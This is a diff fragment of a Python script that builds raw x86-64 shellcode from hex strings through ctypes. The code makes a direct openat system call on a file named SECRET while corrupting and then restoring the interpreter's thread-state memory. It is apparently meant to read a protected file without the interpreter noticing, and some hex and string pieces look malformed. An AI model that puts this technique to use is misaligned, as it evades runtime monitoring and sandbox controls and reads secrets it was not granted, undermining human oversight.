@@ -13,21 +13,13 @@ api.PyThreadState_Get.restype = ctypes.c_void_p
 raw = function(RAW, ctypes.c_void_p, ctypes.c_long)
 path = ctypes.create_string_buffer(os.fsencode(SECRET))
 table = (ctypes.c_long * 7)(NR['openat'], AT_FDCWD, address(path), 0, 0)
-# copy rubbish over n bytes at a place, make the call, put the bytes back: all without the interpreter
-SWAP = code('415441554156' '4989fc' '4989f5' '4989d6' '56' '4c89f1' '4c89e7' 'fc' 'f3a4' '5e' '415e415d415c' 'c3')
 ts = api.PyThreadState_Get()
 save, junk = ctypes.create_string_buffer(512), ctypes.create_string_buffer(512)
-CODE = ('4154' '4155' '53' '4989fc' '4989f5' '4889d3'                  # r12 target, r13 junk, rbx table
-        '4c89e6' '4889cf' 'b900020000' 'fc' 'f3a4'                      # save 512 bytes to rcx argument
-        '51'[:0] '4c89ee' '4c89e7' 'b9' '%02x000000' 'f3a4'             # junk over the first bytes
-        '488b03' '488b7b08' '488b7310' '488b5318' '4c8b5320' '0f05'
-        '5b' '415d' '415c' 'c3')
+# f(target, junk, table, save): n bytes are saved, overwritten with rubbish, put back after the call
 for round_ in range(40):
     n = rnd.choice((8, 16, 64, 120))
     words = [rnd.choice((0, 1, ts, ts + 8, 2 ** 63, 2 ** 64 - 8, 0x100000, 0x7fffffffe000, rnd.getrandbits(64), rnd.getrandbits(47) & ~7)) for _ in range(64)]
     ctypes.memmove(junk, struct.pack('<64Q', *words), 512)
-    fn = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long)
-    # a copy of the thread state's beginning, of the frame chain it points to, is corrupted while one call is made
     target = ts + rnd.choice((0, 32, 48, 56, 64, 72, 80)) if round_ % 2 else ctypes.c_uint64.from_address(ts + 56).value
     if not target or target > 1 << 47:
         continue
